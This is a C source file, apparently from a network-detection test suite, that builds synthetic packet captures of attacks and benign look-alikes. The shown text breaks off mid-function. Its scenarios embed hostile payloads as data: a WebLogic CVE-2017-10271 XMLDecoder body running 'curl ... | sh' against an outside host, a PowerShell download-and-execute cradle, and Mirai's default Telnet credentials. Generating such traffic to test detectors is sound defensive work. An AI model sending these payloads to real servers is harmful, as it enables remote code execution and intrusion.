/*
 * attackgen.c - the attack scenario generator: crafts a capture for each
 * attack family the built-in detectors know, and benign look-alikes that
 * must not raise them. Checksums are valid and TCP conversations complete
 * (handshake, acknowledged data, close), so tshark reads them as real
 * traffic.
 *
 *   mm-attackgen --list
 *   mm-attackgen SCENARIO OUT.pcap
 *   mm-attackgen company [--days N] [--hosts N] [--seed N] [--attacks A,B] [--checkins] OUT.pcap
 *
 * "company" writes a fictional company's days: staff PCs looking names up
 * and using well-known web services during working hours, with the named
 * scenarios spread over the days; --checkins adds what every office PC
 * sends on its own all day (update checks, chat presence, cloud sync).
 *
 * The company's hosts are in 192.168.1.0/24; outsiders use public
 * addresses. Each scenario says what it holds and what a detector should
 * make of it (--list prints the same).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "attackgen.h"

const addr *lan_host(int i)
{
    static addr a[256];
    a[i] = A4(192, 168, 1, i);
    return &a[i];
}

/* --- protocol pieces ------------------------------------------------------ */

static size_t put16(uint8_t *p, unsigned v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
    return 2;
}

/* A TLS record holding one handshake message. */
static size_t tls_hs(uint8_t *o, unsigned rec_ver, uint8_t type, const uint8_t *body, size_t n)
{
    o[0] = 22;
    put16(o + 1, rec_ver);
    put16(o + 3, (unsigned)(n + 4));
    o[5] = type;
    o[6] = (uint8_t)(n >> 16);
    o[7] = (uint8_t)(n >> 8);
    o[8] = (uint8_t)n;
    memcpy(o + 9, body, n);
    return n + 9;
}

/* ClientHello: version, suites, SNI (NULL: none), heartbeat extension. */
static size_t client_hello(uint8_t *o, unsigned ver, const uint16_t *cs, size_t ncs,
                           const char *sni)
{
    uint8_t b[1024];
    size_t k = 0;
    k += put16(b + k, ver);
    for (int i = 0; i < 32; i++)
        b[k++] = (uint8_t)(i * 7 + 1);
    b[k++] = 0;                                 /* session id */
    k += put16(b + k, (unsigned)(ncs * 2));
    for (size_t i = 0; i < ncs; i++)
        k += put16(b + k, cs[i]);
    b[k++] = 1;
    b[k++] = 0;                                 /* null compression */
    size_t ext = k;
    k += 2;
    if (sni) {
        size_t l = strlen(sni);
        k += put16(b + k, 0);
        k += put16(b + k, (unsigned)(l + 5));
        k += put16(b + k, (unsigned)(l + 3));
        b[k++] = 0;
        k += put16(b + k, (unsigned)l);
        memcpy(b + k, sni, l);
        k += l;
    }
    k += put16(b + k, 15);                      /* heartbeat: peer allowed to send */
    k += put16(b + k, 1);
    b[k++] = 1;
    put16(b + ext, (unsigned)(k - ext - 2));
    return tls_hs(o, ver > 0x0301 ? 0x0301 : ver, 1, b, k);
}

static size_t server_hello(uint8_t *o, unsigned ver, uint16_t cs)
{
    uint8_t b[128];
    size_t k = 0;
    k += put16(b + k, ver);
    for (int i = 0; i < 32; i++)
        b[k++] = (uint8_t)(i * 3 + 5);
    b[k++] = 0;
    k += put16(b + k, cs);
    b[k++] = 0;
    k += put16(b + k, 5);                        /* extensions: heartbeat */
    k += put16(b + k, 15);
    k += put16(b + k, 1);
    b[k++] = 1;
    return tls_hs(o, ver, 2, b, k);
}

/* A TLS conversation up to encrypted application data of n bytes each way. */
static void tls_session(addr c, uint16_t cp, addr s, uint16_t sp, unsigned ver, uint16_t suite,
                        const char *sni, size_t app)
{
    static const uint16_t suites[] = {0xc02f, 0xc030, 0x009c, 0x002f, 0x0035, 0x000a};
    uint8_t m[2048];
    tconn t;
    tc_open(&t, c, cp, s, sp);
    tc_send(&t, 0, m, client_hello(m, ver, suites, 6, sni));
    tc_send(&t, 1, m, server_hello(m, ver, suite));
    static const uint8_t ccs[] = {20, 3, 3, 0, 1, 1};
    uint8_t c2[6];
    memcpy(c2, ccs, 6);
    c2[2] = (uint8_t)(ver & 0xFF);
    tc_send(&t, 0, c2, 6);
    tc_send(&t, 1, c2, 6);
    static uint8_t rec_[16384 + 5];
    while (app) {
        size_t n = app > 16384 ? 16384 : app;
        rec_[0] = 23;
        put16(rec_ + 1, ver);
        put16(rec_ + 3, (unsigned)n);
        for (size_t i = 0; i < n; i++)
            rec_[5 + i] = (uint8_t)(i * 131 + 7);
        tc_send(&t, 0, rec_, n + 5);
        tc_send(&t, 1, rec_, n + 5);
        app -= n;
    }
    tc_close(&t);
}

/* DER: tag, length (short or long form) and content, into o. */
static size_t der(uint8_t *o, uint8_t tag, const void *c, size_t n)
{
    size_t k = 0;
    o[k++] = tag;
    if (n < 128) {
        o[k++] = (uint8_t)n;
    } else {
        o[k++] = 0x82;
        k += put16(o + k, (unsigned)n);
    }
    memmove(o + k, c, n);
    return k + n;
}

/* A name with one CN. */
static size_t der_cn(uint8_t *o, const char *cn)
{
    uint8_t a[300], b[300];
    static const uint8_t oid_cn[] = {0x06, 0x03, 0x55, 0x04, 0x03};
    memcpy(a, oid_cn, sizeof oid_cn);
    size_t n = sizeof oid_cn + der(a + sizeof oid_cn, 0x0C, cn, strlen(cn));
    n = der(b, 0x30, a, n);
    n = der(a, 0x31, b, n);
    return der(o, 0x30, a, n);
}

/* An X.509 certificate for subject cn (and DNS name san, NULL none),
 * issued by issuer, valid from nb ("YYMMDDhhmmssZ") for a year. The key
 * and signature are placeholders: nothing here checks them. */
static size_t make_cert(uint8_t *o, const char *cn, const char *san, const char *issuer,
                        const char *nb, const char *na)
{
    static const uint8_t ver[] = {0xA0, 0x03, 0x02, 0x01, 0x02}, serial[] = {0x02, 0x02, 0x12, 0x34};
    static const uint8_t sigalg[] = {0x30, 0x0D, 0x06, 0x09, 0x2A, 0x86, 0x48, 0x86, 0xF7,
                                     0x0D, 0x01, 0x01, 0x0B, 0x05, 0x00};
    static const uint8_t spki[] = {0x30, 0x1F, 0x30, 0x0D, 0x06, 0x09, 0x2A, 0x86, 0x48, 0x86,
                                   0xF7, 0x0D, 0x01, 0x01, 0x01, 0x05, 0x00, 0x03, 0x0E, 0x00,
                                   0x30, 0x0B, 0x02, 0x04, 0x00, 0xC0, 0x00, 0x01, 0x02, 0x03,
                                   0x01, 0x00, 0x01};
    uint8_t tbs[1500], t[600], u[600];
    size_t k = 0;
    memcpy(tbs + k, ver, sizeof ver), k += sizeof ver;
    memcpy(tbs + k, serial, sizeof serial), k += sizeof serial;
    memcpy(tbs + k, sigalg, sizeof sigalg), k += sizeof sigalg;
    k += der_cn(tbs + k, issuer);
    size_t v = der(t, 0x17, nb, strlen(nb));
    v += der(t + v, 0x17, na, strlen(na));
    k += der(tbs + k, 0x30, t, v);
    k += der_cn(tbs + k, cn);
    memcpy(tbs + k, spki, sizeof spki), k += sizeof spki;
    if (san) {
        static const uint8_t oid_san[] = {0x06, 0x03, 0x55, 0x1D, 0x11};
        size_t n = der(t, 0x82, san, strlen(san));
        n = der(u, 0x30, t, n);                     /* GeneralNames */
        memcpy(t, oid_san, sizeof oid_san);
        n = sizeof oid_san + der(t + sizeof oid_san, 0x04, u, n);
        n = der(u, 0x30, t, n);                     /* Extension */
        n = der(t, 0x30, u, n);                     /* Extensions */
        k += der(tbs + k, 0xA3, t, n);
    }
    uint8_t all[2000];
    size_t n = der(all, 0x30, tbs, k);
    memcpy(all + n, sigalg, sizeof sigalg), n += sizeof sigalg;
    static const uint8_t sig[17] = {0x00, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
    n += der(all + n, 0x03, sig, sizeof sig);
    return der(o, 0x30, all, n);
}

/* A TLS 1.2 session whose server shows a certificate (cn, san, issuer,
 * validity from nb to na), then app bytes of application data each way. */
static void tls_cert_session(addr c, uint16_t cp, addr s, uint16_t sp, const char *sni,
                             const char *cn, const char *san, const char *issuer,
                             const char *nb, const char *na, size_t app)
{
    static const uint16_t suites[] = {0xc02f, 0xc030, 0x009c, 0x002f, 0x0035, 0x000a};
    uint8_t m[4096], cert[2100], body[2200];
    tconn t;
    tc_open(&t, c, cp, s, sp);
    tc_send(&t, 0, m, client_hello(m, 0x0303, suites, 6, sni));
    size_t k = server_hello(m, 0x0303, 0xc02f);
    size_t cl = make_cert(cert, cn, san, issuer, nb, na);
    body[0] = (uint8_t)((cl + 3) >> 16), body[1] = (uint8_t)((cl + 3) >> 8), body[2] = (uint8_t)(cl + 3);
    body[3] = (uint8_t)(cl >> 16), body[4] = (uint8_t)(cl >> 8), body[5] = (uint8_t)cl;
    memcpy(body + 6, cert, cl);
    k += tls_hs(m + k, 0x0303, 11, body, cl + 6);
    k += tls_hs(m + k, 0x0303, 14, body, 0);        /* ServerHelloDone */
    tc_send(&t, 1, m, k);
    static const uint8_t ccs[] = {20, 3, 3, 0, 1, 1};
    tc_send(&t, 0, ccs, 6);
    tc_send(&t, 1, ccs, 6);
    uint8_t rec[1029];
    while (app) {
        size_t n = app > 1024 ? 1024 : app;
        rec[0] = 23;
        put16(rec + 1, 0x0303);
        put16(rec + 3, (unsigned)n);
        for (size_t i = 0; i < n; i++)
            rec[5 + i] = (uint8_t)(i * 131 + 7);
        tc_send(&t, 0, rec, n + 5);
        tc_send(&t, 1, rec, n + 5);
        app -= n;
    }
    tc_close(&t);
}

static size_t dns_name(uint8_t *o, const char *name)
{
    size_t k = 0;
    while (*name) {
        size_t l = strcspn(name, ".");
        o[k++] = (uint8_t)l;
        memcpy(o + k, name, l);
        k += l;
        name += l + (name[l] == '.');
    }
    o[k++] = 0;
    return k;
}

/* A query for name and its answer (A records addrs, n of them). */
static void dns_exchange(addr c, addr srv, uint16_t id, const char *name, const addr *ans, int n)
{
    uint8_t q[512];
    size_t k = 0;
    k += put16(q + k, id);
    k += put16(q + k, 0x0100);
    k += put16(q + k, 1);
    k += put16(q + k, 0);
    k += put16(q + k, 0);
    k += put16(q + k, 0);
    k += dns_name(q + k, name);
    k += put16(q + k, 1);
    k += put16(q + k, 1);
    udp(c, (uint16_t)(40000 + id % 2000), srv, 53, q, k, 0);
    put16(q + 2, 0x8180);
    put16(q + 6, (unsigned)n);
    for (int i = 0; i < n; i++) {
        k += put16(q + k, 0xC00C);
        k += put16(q + k, 1);
        k += put16(q + k, 1);
        k += put16(q + k, 0);
        k += put16(q + k, 300);
        k += put16(q + k, 4);
        memcpy(q + k, ans[i].b, 4);
        k += 4;
    }
    udp(srv, 53, c, (uint16_t)(40000 + id % 2000), q, k, 0);
}

static void http_exchange(addr c, uint16_t cp, addr s, const char *req, const void *body,
                          size_t blen, const char *ctype)
{
    tconn t;
    char h[512];
    tc_open(&t, c, cp, s, 80);
    tc_send(&t, 0, req, strlen(req));
    int hl = snprintf(h, sizeof h, "HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %zu\r\n\r\n",
                      ctype, blen);
    tc_send(&t, 1, h, (size_t)hl);
    if (blen)
        tc_send(&t, 1, body, blen);
    tc_close(&t);
}

/* A small Windows program: DOS stub, PE header, padding. */
size_t fake_pe(uint8_t *o, size_t n)
{
    memset(o, 0, n);
    o[0] = 'M';
    o[1] = 'Z';
    o[0x3c] = 0x80;
    memcpy(o + 0x80, "PE\0\0", 4);
    o[0x84] = 0x4c;
    o[0x85] = 0x01;                             /* i386 */
    o[0x96] = 0x02;                             /* executable image */
    o[0x98] = 0x0b;
    o[0x99] = 0x01;                             /* PE32 optional header */
    memcpy(o + 0x4e, "This program cannot be run in DOS mode.", 39);
    for (size_t i = 0x200; i < n; i++)
        o[i] = (uint8_t)(i * 17 + 3);
    return n;
}

/* X.224 connection request with a cookie, and the confirm. */
static void rdp_attempt(addr c, uint16_t cp, addr s, const char *user, size_t session_bytes)
{
    uint8_t m[256];
    tconn t;
    tc_open(&t, c, cp, s, 3389);
    int cl = snprintf((char *)m + 11, 100, "Cookie: mstshash=%s\r\n", user);
    size_t n = 11 + (size_t)cl;
    memcpy(m + n, "\x01\x00\x08\x00\x03\x00\x00\x00", 8);   /* RDP_NEG_REQ: TLS|CredSSP */
    n += 8;
    m[0] = 3;
    m[1] = 0;
    put16(m + 2, (unsigned)n);
    m[4] = (uint8_t)(n - 5);
    m[5] = 0xE0;
    memset(m + 6, 0, 5);
    tc_send(&t, 0, m, n);
    static const uint8_t cc[] = {3, 0, 0, 19, 14, 0xD0, 0, 0, 0x12, 0x34, 0,
                                 0x02, 0x00, 0x08, 0x00, 0x02, 0, 0, 0};
    tc_send(&t, 1, cc, sizeof cc);
    /* what follows is TLS/CredSSP: opaque bytes, a little for a failed
     * login, a lot for a session that works */
    static uint8_t blob[1400];
    for (size_t i = 0; i < sizeof blob; i++)
        blob[i] = (uint8_t)(i * 29 + 1);
    tc_send(&t, 0, blob, 600);
    tc_send(&t, 1, blob, 1200);
    while (session_bytes) {
        size_t k = session_bytes > sizeof blob ? sizeof blob : session_bytes;
        tc_send(&t, 1, blob, k);
        session_bytes -= k;
    }
    tc_close(&t);
}

static size_t ntp_mode7(uint8_t *o, int response, uint8_t req, uint16_t items, uint16_t isize)
{
    memset(o, 0, 8);
    o[0] = (uint8_t)((response ? 0x80 : 0) | (2 << 3) | 7);
    o[1] = 0;                                   /* sequence */
    o[2] = 3;                                   /* implementation: XNTPD */
    o[3] = req;
    put16(o + 4, items);
    put16(o + 6, isize);
    size_t n = 8 + (size_t)items * isize;
    for (size_t i = 8; i < n; i++)
        o[i] = (uint8_t)(i * 11);
    return n;
}

/* --- scenarios ------------------------------------------------------------ */

static void sc_gh0st(void)
{
    /* two infected PCs report to their controller: "Gh0st"-framed zlib
     * messages both ways, one of them a variant with another magic word */
    static const char *const words[] = {"Gh0st", "xy1zz"};
    for (int w = 0; w < 2; w++) {
        tconn t;
        tc_open(&t, *lan_host(22 + w), (uint16_t)(49200 + w), A4(103, 43, 18, 90), 8000);
        for (int dir = 0; dir < 2; dir++) {
            uint8_t raw[300], z[400], m[512];
            for (size_t i = 0; i < sizeof raw; i++)
                raw[i] = dir ? (uint8_t)('a' + i % 7) : (uint8_t)"WinXP SP3 CPU 2GHz "[i % 19];
            uLongf zl = sizeof z;
            compress(z, &zl, raw, sizeof raw);
            size_t ml = strlen(words[w]);
            size_t total = ml + 8 + zl;
            memcpy(m, words[w], ml);
            m[ml] = (uint8_t)total;
            m[ml + 1] = (uint8_t)(total >> 8);
            m[ml + 2] = m[ml + 3] = 0;
            m[ml + 4] = (uint8_t)sizeof raw;
            m[ml + 5] = (uint8_t)(sizeof raw >> 8);
            m[ml + 6] = m[ml + 7] = 0;
            memcpy(m + ml + 8, z, zl);
            tc_send(&t, dir, m, total);
        }
        tc_close(&t);
    }
}

static void sc_rdp_bruteforce(void)
{
    /* an outsider guesses Administrator's password 14 times, then logs in */
    addr ext = A4(185, 220, 101, 5), srv = *lan_host(50);
    for (int i = 0; i < 14; i++) {
        rdp_attempt(ext, (uint16_t)(51000 + i), srv, "Administrator", 0);
        now_us += 3 * SEC;
    }
    rdp_attempt(ext, 51100, srv, "Administrator", 300000);
}

static void sc_rdp_single(void)
{
    /* benign: one administrator at home connects once and works */
    rdp_attempt(A4(60, 100, 20, 30), 52000, *lan_host(51), "tanaka", 300000);
}

static void sc_rdp_sweep(void)
{
    /* an infected PC opens RDP to 15 neighbours in a few seconds */
    for (int i = 0; i < 15; i++) {
        addr dst = *lan_host(100 + i);
        tcp(*lan_host(24), (uint16_t)(53000 + i), dst, 3389, 1, 0, S, "", 0);
        tcp(dst, 3389, *lan_host(24), (uint16_t)(53000 + i), 9, 2, R | A, "", 0);
        now_us += 200000;
    }
}

static void sc_ntp_flood(void)
{
    /* 1500 monlist answers from 20 reflectors land on the company's router */
    addr victim = *lan_host(1);
    uint8_t m[512];
    for (int i = 0; i < 1500; i++) {
        addr r = A4(45, 60 + i % 20, 10, 7);
        udp(r, 123, victim, 44444, m, ntp_mode7(m, 1, 42, 6, 72), 0);
        now_us += 20000;
    }
}

static void sc_ntp_small_flood(void)
{
    /* 40 monlist answers nobody here asked for, from two reflectors */
    uint8_t m[512];
    for (int i = 0; i < 40; i++) {
        udp(A4(64, 90, 3, 1 + i % 2), 123, *lan_host(2), 33333, m, ntp_mode7(m, 1, 42, 6, 72), 0);
        now_us += 50000;
    }
}

static void sc_ntp_answer_in(void)
{
    /* one monlist answer nobody here asked for reaches a company PC: an
     * amplifier answered, a flood it is not */
    uint8_t m[512];
    udp(A4(64, 90, 7, 1), 123, *lan_host(3), 40123, m, ntp_mode7(m, 1, 42, 6, 72), 0);
}

static void sc_ntp_reflector(void)
{
    /* the company's NTP server answers monlist to the Internet */
    addr ext = A4(77, 88, 5, 5), srv = *lan_host(10);
    uint8_t m[512];
    for (int r = 0; r < 3; r++) {
        udp(ext, 57000, srv, 123, m, ntp_mode7(m, 0, 42, 0, 0) + 40, 0);
        for (int i = 0; i < 10; i++)
            udp(srv, 123, ext, 57000, m, ntp_mode7(m, 1, 42, 6, 72), 0);
        now_us += SEC;
    }
}

static void sc_ntp_benign(void)
{
    /* benign: ordinary time sync (mode 3/4) and a mode 6 read-variables query */
    addr c = *lan_host(30), s = A4(133, 243, 238, 163);
    uint8_t m[48] = {0x23};
    udp(c, 123, s, 123, m, 48, 0);
    m[0] = 0x24;
    m[1] = 2;
    udp(s, 123, c, 123, m, 48, 0);
    uint8_t q[12] = {0x16, 0x02, 0, 1};         /* v2 mode 6, READVAR */
    udp(c, 50123, *lan_host(10), 123, q, 12, 0);
    uint8_t a[60] = {0x16, 0x82, 0, 1};
    memcpy(a + 12, "version=\"ntpd 4.2.8\"", 20);
    a[11] = 20;
    udp(*lan_host(10), 123, c, 50123, a, 32, 0);
}

static void sc_sslv3_server(void)
{
    /* an old company server accepts SSLv3 with a CBC suite from the Internet */
    tls_session(A4(91, 121, 33, 4), 50500, *lan_host(80), 443, 0x0300, 0x000a, NULL, 2000);
}

static void sc_tls_benign(void)
{
    /* benign: TLS 1.2 with large records and a well-formed heartbeat
     * exchange; HTTPS to a CDN address that DNS gave, without SNI */
    addr c = *lan_host(31), cdn = A4(23, 45, 67, 89);
    dns_exchange(c, A4(8, 8, 8, 8), 7, "static.example-cdn.net", &cdn, 1);
    tls_session(c, 50600, cdn, 443, 0x0303, 0xc02f, NULL, 60000);
    tls_session(c, 50601, A4(151, 101, 1, 69), 443, 0x0303, 0xc02f, "news.example.org", 40000);
}

static void sc_weblogic(void)
{
    /* CVE-2017-10271: XMLDecoder payload starting a process, to a company server */
    static const char body[] =
        "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\">"
        "<soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\">"
        "<java version=\"1.8.0_131\" class=\"java.beans.XMLDecoder\">"
        "<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\">"
        "<void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string>"
        "</void><void index=\"2\"><string>curl -s http://198.51.7.7/x.sh | sh</string></void>"
        "</array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header>"
        "<soapenv:Body/></soapenv:Envelope>";
    char req[2048];
    snprintf(req, sizeof req,
             "POST /wls-wsat/CoordinatorPortType HTTP/1.1\r\nHost: 192.168.1.90:7001\r\n"
             "Content-Type: text/xml\r\nContent-Length: %zu\r\n\r\n%s", strlen(body), body);
    tconn t;
    tc_open(&t, A4(5, 188, 86, 5), 40400, *lan_host(90), 7001);
    tc_send(&t, 0, req, strlen(req));
    static const char r[] = "HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n";
    tc_send(&t, 1, r, strlen(r));
    tc_close(&t);
}

static void sc_powershell(void)
{
    /* a macro starts PowerShell, which fetches a script */
    static const char req[] =
        "GET /a.ps1 HTTP/1.1\r\nHost: cdn-update.duckdns.org\r\n"
        "User-Agent: Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.1\r\n\r\n";
    static const char body[] = "IEX (New-Object Net.WebClient).DownloadString('http://x/y')\n";
    http_exchange(*lan_host(25), 49800, A4(104, 21, 30, 40), req, body, strlen(body), "text/plain");
}

static void sc_sinkhole(void)
{
    /* an infected PC looks up its controller: sinkholed and dead answers */
    addr c = *lan_host(26), res = A4(8, 8, 8, 8);
    addr sink = A4(131, 253, 18, 12), zero = A4(0, 0, 0, 0);
    dns_exchange(c, res, 100, "update-checker-cdn.com", &sink, 1);
    now_us += 120 * SEC;
    dns_exchange(c, res, 101, "kx8fw2-panel.net", &zero, 1);
}

static void sc_bare_ip(void)
{
    /* HTTPS with no name to an address no DNS answer gave */
    tls_session(*lan_host(27), 50700, A4(45, 77, 12, 9), 443, 0x0303, 0xc02f, NULL, 3000);
}

static void sc_exe_disguised(void)
{
    /* a program served as a picture, from a dynamic-DNS host */
    static uint8_t pe[20000];
    static const char req[] = "GET /img/photo.jpg HTTP/1.1\r\nHost: files.hopto.org\r\n"
                              "User-Agent: Mozilla/5.0\r\n\r\n";
    http_exchange(*lan_host(28), 49900, A4(104, 18, 5, 5), req, pe,
                  fake_pe(pe, sizeof pe), "image/jpeg");
}

static void sc_exe_declared(void)
{
    /* a program named as one, but declared a picture by the server */
    static uint8_t pe[20000];
    static const char req[] = "GET /update/agent.exe HTTP/1.1\r\nHost: cdn.example.org\r\n"
                              "User-Agent: Mozilla/5.0\r\n\r\n";
    addr srv = A4(93, 184, 216, 50);
    dns_exchange(*lan_host(46), A4(8, 8, 8, 8), 14, "cdn.example.org", &srv, 1);
    http_exchange(*lan_host(46), 49960, srv, req, pe, fake_pe(pe, sizeof pe), "image/gif");
}

static void sc_exe_benign(void)
{
    /* benign: a named vendor serves setup.exe */
    static uint8_t pe[20000];
    static const char req[] = "GET /downloads/setup.exe HTTP/1.1\r\nHost: download.example.com\r\n"
                              "User-Agent: Mozilla/5.0\r\n\r\n";
    addr srv = A4(93, 184, 216, 34);
    dns_exchange(*lan_host(29), A4(8, 8, 8, 8), 9, "download.example.com", &srv, 1);
    http_exchange(*lan_host(29), 49950, srv, req, pe, fake_pe(pe, sizeof pe),
                  "application/octet-stream");
}

/* An SMB2 NEGOTIATE (dialects 2.02, 2.10) from c to s:445. */
static void smb_negotiate(addr c, uint16_t cp, addr s)
{
    static const uint8_t neg[] = {
        0, 0, 0, 106, 0xFE, 'S', 'M', 'B', 64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
        36, 0, 2, 0, 1, 0, 0, 0, 0x7f, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13,
        14, 15, 16, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x02, 0x10, 0x02};
    tconn t;
    tc_open(&t, c, cp, s, 445);
    tc_send(&t, 0, neg, sizeof neg);
    tc_close(&t);
}

static void sc_smb_internet(void)
{
    /* an SMB2 session from a company PC to a server on the Internet */
    smb_negotiate(*lan_host(32), 50800, A4(52, 1, 2, 3));
}

static void sc_smb_benign(void)
{
    /* benign: the same negotiation between two company hosts */
    smb_negotiate(*lan_host(33), 50900, *lan_host(5));
}

static void sc_telnet_inbound(void)
{
    /* Mirai-style: an outsider logs in to a camera's Telnet */
    tconn t;
    tc_open(&t, A4(180, 76, 9, 9), 41000, *lan_host(60), 23);
    tc_send(&t, 1, "login: ", 7);
    tc_send(&t, 0, "root\r\n", 6);
    tc_send(&t, 1, "Password: ", 10);
    tc_send(&t, 0, "xc3511\r\n", 8);
    tc_close(&t);
}

static void sc_ssh_guess(void)
{
    /* 12 short SSH sessions from one outsider to a company server */
    for (int i = 0; i < 12; i++) {
        tconn t;
        tc_open(&t, A4(61, 177, 172, 13), (uint16_t)(42000 + i), *lan_host(70), 22);
        tc_send(&t, 1, "SSH-2.0-OpenSSH_8.4\r\n", 21);
        tc_send(&t, 0, "SSH-2.0-libssh2_1.9.0\r\n", 23);
        uint8_t blob[900];
        memset(blob, 0x41, sizeof blob);
        tc_send(&t, 0, blob, 600);
        tc_send(&t, 1, blob, 900);
        tc_send(&t, 0, blob, 300);
        tc_send(&t, 1, blob, 100);
        tc_close(&t);
        now_us += 2 * SEC;
    }
}

static void sc_heartbleed_benign(void)
{
    /* benign: a well-formed heartbeat request and its same-size response */
    tconn t;
    uint8_t m[2048];
    static const uint16_t suites[] = {0xc02f};
    addr c = *lan_host(34), s = A4(151, 101, 1, 70);
    tc_open(&t, c, 50950, s, 443);
    tc_send(&t, 0, m, client_hello(m, 0x0303, suites, 1, "secure.example.org"));
    tc_send(&t, 1, m, server_hello(m, 0x0303, 0xc02f));
    uint8_t hb[5 + 3 + 16 + 16] = {24, 3, 3, 0, 35, 1, 0, 16};
    tc_send(&t, 0, hb, sizeof hb);
    hb[5] = 2;
    tc_send(&t, 1, hb, sizeof hb);
    tc_close(&t);
}

static void http_get(addr c, uint16_t cp, addr s, const char *host, const char *uri,
                     const void *body, size_t blen, const char *ctype)
{
    char req[512];
    snprintf(req, sizeof req, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0 "
             "(Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko\r\n\r\n", uri, host);
    http_exchange(c, cp, s, req, body, blen, ctype);
}

static void sc_exploit_kit(void)
{
    /* drive-by: a compromised site's page, a landing page on a new host,
     * Flash from it, then a program */
    addr pc = *lan_host(40), site = A4(113, 20, 11, 49), ek = A4(45, 32, 238, 202);
    static const char page[] = "<html><body><iframe src=\"http://qq7tz.example-ek.top/land\"></iframe></body></html>";
    static uint8_t swf[3000], pe[30000];
    http_get(pc, 50100, site, "www.small-shop.example.com", "/", page, sizeof page - 1, "text/html");
    now_us += 2 * SEC;
    http_get(pc, 50101, ek, "qq7tz.example-ek.top", "/land/4410327/quite-someone-visitor-nonsense", page,
             sizeof page - 1, "text/html");
    now_us += SEC;
    memcpy(swf, "CWS\x0d", 4);
    for (size_t i = 4; i < sizeof swf; i++)
        swf[i] = (uint8_t)(i * 37 + 11);
    http_get(pc, 50102, ek, "qq7tz.example-ek.top", "/occasional/bXJkeHFl", swf, sizeof swf,
             "application/x-shockwave-flash");
    now_us += 5 * SEC;
    http_get(pc, 50103, ek, "qq7tz.example-ek.top", "/observation/enVjZ2dt", pe,
             fake_pe(pe, sizeof pe), "application/octet-stream");
}

static void sc_web_benign(void)
{
    /* benign: a page with scripts and pictures from a CDN, then a program
     * downloaded from the same vendor (no exploit container) */
    addr pc = *lan_host(41), site = A4(93, 184, 216, 34), cdn = A4(151, 101, 1, 69);
    static const char page[] = "<html><script src=\"//cdn.example.net/app.js\"></script></html>";
    static const char js[] = "function hello(){return 1;}";
    static uint8_t pe[30000];
    http_get(pc, 50200, site, "www.example.com", "/", page, sizeof page - 1, "text/html");
    http_get(pc, 50201, cdn, "cdn.example.net", "/app.js", js, sizeof js - 1,
             "application/javascript");
    http_get(pc, 50202, cdn, "cdn.example.net", "/logo.png", "\x89PNG\r\n\x1a\n", 8, "image/png");
    now_us += 3 * SEC;
    http_get(pc, 50203, site, "www.example.com", "/download/tool.exe", pe, fake_pe(pe, sizeof pe),
             "application/x-msdownload");
}

static uint32_t lcg = 12345;
static uint32_t rnd(uint32_t n)
{
    lcg = lcg * 1103515245u + 12345u;
    return (lcg >> 8) % n;
}

static void short_session(addr c, uint16_t cp, addr s, uint16_t sp, size_t up, size_t down)
{
    static uint8_t blob[200000];
    for (size_t i = 0; i < 64; i++)
        blob[i] = (uint8_t)(i * 13 + 1);
    tconn t;
    tc_open(&t, c, cp, s, sp);
    tc_send(&t, 0, blob, up);
    tc_send(&t, 1, blob, down);
    tc_close(&t);
}

static void sc_beacon(void)
{
    /* an implant calls home every 60 s (a second of jitter) for two hours,
     * sending and receiving a few hundred bytes */
    for (int i = 0; i < 120; i++) {
        short_session(*lan_host(42), (uint16_t)(52000 + i), A4(185, 141, 27, 9), 443,
                      300 + rnd(20), 500 + rnd(20));
        now_us += 60 * SEC + rnd(1000000);
    }
}

static void sc_beacon_tls(void)
{
    /* Cobalt Strike's way: HTTPS every 60 s (a second of jitter) to a bare
     * address, no server name, a self-signed certificate made the day
     * before (the capture's clock starts 2023-11-14) */
    for (int i = 0; i < 60; i++) {
        tls_cert_session(*lan_host(44), (uint16_t)(53000 + i), A4(45, 137, 21, 9), 443, NULL,
                         "Major Cobalt Strike", NULL, "Major Cobalt Strike", "231113000000Z",
                         "241113000000Z", 300 + rnd(20));
        now_us += 60 * SEC + rnd(1000000);
    }
}

static void sc_beacon_vendor(void)
{
    /* benign: Windows checking in with a Microsoft service every 60 s,
     * resolved by DNS, its certificate a public CA's for the name asked;
     * every other session without a server name (some agents send none:
     * the certificate's names tell the vendor) */
    addr ms = A4(20, 42, 65, 92);
    dns_exchange(*lan_host(45), *lan_host(1), 777, "settings-win.data.microsoft.com", &ms, 1);
    for (int i = 0; i < 60; i++) {
        tls_cert_session(*lan_host(45), (uint16_t)(54000 + i), ms, 443,
                         i % 2 ? NULL : "settings-win.data.microsoft.com",
                         "settings-win.data.microsoft.com",
                         "*.data.microsoft.com", "Microsoft Azure RSA TLS Issuing CA 04",
                         "230601000000Z", "240601000000Z", 1200);
        now_us += 60 * SEC + rnd(1000000);
    }
}

static void sc_beacon_saas(void)
{
    /* benign but unknown: a business web service polled every 5 minutes by
     * name, with a proper certificate: a rhythm and nothing else */
    addr ip = A4(153, 127, 50, 10);
    dns_exchange(*lan_host(46), *lan_host(1), 778, "app.example-saas.jp", &ip, 1);
    for (int i = 0; i < 30; i++) {
        tls_cert_session(*lan_host(46), (uint16_t)(55000 + i), ip, 443, "app.example-saas.jp",
                         "app.example-saas.jp", "app.example-saas.jp", "JPRS Domain Validation Authority - G4",
                         "230301000000Z", "240301000000Z", 800);
